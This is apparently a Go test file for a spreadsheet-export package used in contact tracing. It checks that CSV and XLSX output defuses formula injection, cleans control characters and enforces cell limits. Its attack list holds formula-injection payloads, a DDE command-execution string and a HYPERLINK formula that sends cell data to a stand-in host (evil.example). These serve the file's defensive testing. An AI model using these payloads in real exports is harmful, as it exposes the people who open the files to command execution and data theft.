package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/ravao/ravao"
	"github.com/xuri/excelize/v2"
)

// attacks are the names of the issue: what people typed at check-in to see
// whether Luca's exports would run them on a health official's computer.
var attacks = []string{
	`=cmd|' /C calc'!A0`, `@SUM(1+1)`, `+1`, `-1`, "\tx", "\rx", `'quoted`,
	"Nguyễn Thị Ánh", `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")`,
	"''=1+1", "'", "=", " =1+1", "0912345678", "a,b", "dòng 1\ndòng 2", `nói "chào"`,
	"", "_x0041_", "_x005F_x0041_", "_x0000_x0000_", "_xD800_", "x\r", "\r",
}

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`@SUM(1+1)`, `'@SUM(1+1)`},
		{`+1`, `'+1`},
		{`-1`, `'-1`},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{`'quoted`, `''quoted`},
		{"'", "''"},
		{"Nguyễn Thị Ánh", "Nguyễn Thị Ánh"},
		{" =1", " =1"},
		{"a=1", "a=1"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := Restore(tt.want); got != tt.in {
			t.Errorf("Restore(%q) = %q, want %q", tt.want, got, tt.in)
		}
	}
	// Text that Neutralise could not have made is left alone.
	for _, s := range []string{"'quoted", "'", "'Nguyễn"} {
		if got := Restore(s); got != s {
			t.Errorf("Restore(%q) = %q, want it unchanged", s, got)
		}
	}
}

func TestClean(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Nguyễn Thị Ánh", "Nguyễn Thị Ánh"},
		{"a\tb\nc\rd", "a\tb\nc\rd"},
		{"dòng 1\r\ndòng 2", "dòng 1\ndòng 2"},
		{"a\r\r\nb", "a\nb"},
		{"a\r\rb\r", "a\r\rb\r"},
		{"a\x00b\x1b[31m\x7f", "a\uFFFDb\uFFFD[31m\uFFFD"},
		{"\u0085\u009f", "\uFFFD\uFFFD"},
		{"\uFFFE\uFFFF\uFFFD", "\uFFFD\uFFFD\uFFFD"},
		{"Ngư\xe1\xbb", "Ngư\uFFFD\uFFFD"},
		{"\xff=1", "\uFFFD=1"},
		{"_x0041_", "\uFFFDx0041_"},
		{"_x0000_x00aF_x_x12_", "\uFFFDx0000\uFFFDx00aF_x_x12_"},
		{"_xD800_ _X0041_ _x004G_ snake_case_x", "\uFFFDxD800_ _X0041_ _x004G_ snake_case_x"},
	}
	for _, tt := range tests {
		if got := Clean(tt.in); got != tt.want {
			t.Errorf("Clean(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriteCSVBytes(t *testing.T) {
	var b bytes.Buffer
	err := WriteCSV(&b, []string{"Họ tên", "SĐT", "Ghi chú"}, [][]string{
		{"=1+1", "0912345678", "a,b"},
		{"Trần Văn B"},
		{},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := "\uFEFFHọ tên,SĐT,Ghi chú\r\n'=1+1,0912345678,\"a,b\"\r\nTrần Văn B,,\r\n,,\r\n"
	if got := b.String(); got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
	b.Reset()
	if err := WriteCSV(&b, nil, [][]string{{""}, {}}); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), "\uFEFF\"\"\r\n\"\"\r\n"; got != want {
		t.Errorf("blank records: got %q, want %q (a blank line would be skipped)", got, want)
	}
}

func TestWriteCSVRoundTrip(t *testing.T) {
	header := []string{"Họ tên", "=Ghi chú"}
	rows := [][]string{}
	for _, a := range attacks {
		rows = append(rows, []string{a, "x"}, []string{"y", a})
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, header, rows); err != nil {
		t.Fatal(err)
	}
	got := readCSV(t, b.Bytes())
	checkCSV(t, got, append([][]string{header}, rows...))
}

// readCSV reads a file WriteCSV wrote, as a spreadsheet would: the BOM
// first, then records.
func readCSV(t testing.TB, b []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(b, []byte(bom))
	if !ok {
		t.Fatalf("no BOM: %q", b)
	}
	r := csv.NewReader(bytes.NewReader(rest))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("reading back: %v\n%q", err, rest)
	}
	return recs
}

// checkCSV fails t unless got holds the cells of want, each neutralised:
// none begins with a formula trigger and each restores to the original.
func checkCSV(t testing.TB, got, want [][]string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("got %d records, want %d", len(got), len(want))
	}
	for i := range want {
		if len(got[i]) != max(len(want[i]), 1) {
			t.Fatalf("record %d: got %d cells %q, want %q", i, len(got[i]), got[i], want[i])
		}
		for j, w := range want[i] {
			c := got[i][j]
			if Dangerous(c) {
				t.Errorf("cell %d,%d = %q begins with a formula trigger", i, j, c)
			}
			if Restore(c) != Clean(w) {
				t.Errorf("cell %d,%d: Restore(%q) = %q, want %q", i, j, c, Restore(c), Clean(w))
			}
		}
	}
}

func TestWriteXLSXRoundTrip(t *testing.T) {
	header := []string{"Họ tên", "=Ghi chú", "SĐT"}
	rows := [][]string{}
	for _, a := range attacks {
		rows = append(rows, []string{a, "x", "0912345678"}, []string{"y", a})
	}
	var b bytes.Buffer
	if err := WriteXLSX(&b, "Danh sách tiếp xúc", header, rows); err != nil {
		t.Fatal(err)
	}
	checkXLSX(t, b.Bytes(), "Danh sách tiếp xúc", append([][]string{header}, rows...))
}

// checkXLSX fails t unless the workbook's sheet holds exactly the text of
// want, cleaned, in string cells with no formula, formatted as Text.
func checkXLSX(t testing.TB, b []byte, sheet string, want [][]string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 1 || got[0] != sheet {
		t.Fatalf("sheets %q, want [%q]", got, sheet)
	}
	got, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) > len(want) {
		t.Fatalf("got %d rows, want %d", len(got), len(want))
	}
	for i, row := range want {
		for j, w := range row {
			checkXLSXCell(t, f, sheet, got, i, j, Clean(w))
		}
	}
}

func checkXLSXCell(t testing.TB, f *excelize.File, sheet string, rows [][]string, i, j int, want string) {
	t.Helper()
	ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
	var got string
	if i < len(rows) && j < len(rows[i]) {
		got = rows[i][j]
	}
	if got != want {
		t.Errorf("%s = %q, want %q", ref, got, want)
	}
	typ, err := f.GetCellType(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	if want != "" && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
		t.Errorf("%s: cell type %v, want a string", ref, typ)
	}
	if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
		t.Errorf("%s: formula %q (%v), want none", ref, formula, err)
	}
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	if style, err := f.GetStyle(id); err != nil || style.NumFmt != textFormat {
		t.Errorf("%s: style %+v (%v), want the Text format, which keeps it text when edited", ref, style, err)
	}
}

func TestWriteXLSXLimits(t *testing.T) {
	var b bytes.Buffer
	long := strings.Repeat("ễ", maxCellChars)
	if err := WriteXLSX(&b, "Tiếp xúc", nil, [][]string{{long}}); err != nil {
		t.Errorf("a cell of %d characters: %v", maxCellChars, err)
	}
	err := WriteXLSX(&b, "Tiếp xúc", nil, [][]string{{"a", long + "x"}})
	if ravao.ErrorCode(err) != ravao.Invalid || ravao.ErrorKey(err) != "err.too_long" {
		t.Errorf("a cell of %d characters: got %v, want err.too_long", maxCellChars+1, err)
	}
	// Astral characters take two UTF-16 units, as Excel counts them.
	if err := WriteXLSX(&b, "Tiếp xúc", nil, [][]string{{strings.Repeat("😷", maxCellChars/2+1)}}); err == nil {
		t.Errorf("a cell of %d UTF-16 units: no error", maxCellChars+2)
	}
	for _, name := range []string{"", "a/b", "'a", strings.Repeat("x", 32)} {
		if err := WriteXLSX(&b, name, nil, nil); err == nil {
			t.Errorf("sheet name %q: no error", name)
		}
	}
}

func FuzzNeutralise(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := Neutralise(s)
		if Restore(n) != s {
			t.Fatalf("Restore(Neutralise(%q)) = %q", s, Restore(n))
		}
		if Dangerous(n) {
			t.Fatalf("Neutralise(%q) = %q begins with a formula trigger", s, n)
		}
		c := Clean(s)
		if !utf8.ValidString(c) || Clean(c) != c {
			t.Fatalf("Clean(%q) = %q: not valid or not stable", s, c)
		}
		if utf8.ValidString(s) && strings.IndexFunc(s, func(r rune) bool { return !holdable(r) }) < 0 &&
			!strings.Contains(s, "\r\n") && !xmlEscapeIn(s) && c != s {
			t.Fatalf("Clean(%q) = %q changed text a cell can hold", s, c)
		}
		var b bytes.Buffer
		table := [][]string{{s}, {s, s}}
		if err := WriteCSV(&b, []string{s}, table); err != nil {
			t.Fatal(err)
		}
		checkCSV(t, readCSV(t, b.Bytes()), append([][]string{{s}}, table...))
	})
}

func FuzzWriteCSV(f *testing.F) {
	f.Add("=1+1", "a,\"b\"\r\n", "Nguyễn Thị Ánh")
	f.Add("\r", "\n", "'")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		header := []string{a, b, c}
		rows := [][]string{{c, b, a}, {b}, {}, {a, "", c}}
		var out bytes.Buffer
		if err := WriteCSV(&out, header, rows); err != nil {
			t.Fatal(err)
		}
		got := readCSV(t, out.Bytes())
		want := [][]string{header, {c, b, a}, {b, "", ""}, {"", "", ""}, {a, "", c}}
		checkCSV(t, got, want)
	})
}

func FuzzWriteXLSX(f *testing.F) {
	for _, a := range attacks {
		f.Add(a, "x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		if tooLong(Clean(a)) || tooLong(Clean(b)) {
			return
		}
		var out bytes.Buffer
		want := [][]string{{a, b}, {b, a}}
		if err := WriteXLSX(&out, "Tiếp xúc", want[0], want[1:]); err != nil {
			t.Fatal(err)
		}
		checkXLSX(t, out.Bytes(), "Tiếp xúc", want)
	})
}

// xmlEscapeIn reports whether s holds text shaped like _xHHHH_ anywhere.
func xmlEscapeIn(s string) bool {
	for i := range len(s) {
		if xmlEscape(s[i:]) {
			return true
		}
	}
	return false
}
